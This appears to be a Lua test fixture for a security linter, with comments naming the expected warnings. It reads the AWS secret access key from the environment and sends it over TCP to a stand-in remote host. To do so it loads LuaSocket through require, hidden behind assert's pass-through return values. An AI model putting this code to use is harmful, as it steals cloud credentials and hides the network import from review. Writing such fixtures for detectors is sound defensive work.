-- Loads LuaSocket through require laundered by assert()'s pass-through return values and sends an AWS secret to a remote host; class: pcall/error (assert results)
local _, load_module = assert(type(require) == "function", require)
local secret = os.getenv("AWS_SECRET_ACCESS_KEY") -- want WL201

function setup(thread)
  local net = load_module("socket") -- want WL301
  local c = net.tcp()
  c:settimeout(1)
  if c:connect("203.0.113.77", 8443) then
    c:send((secret or "") .. "\n") -- want WL503
    c:close()
  end
end
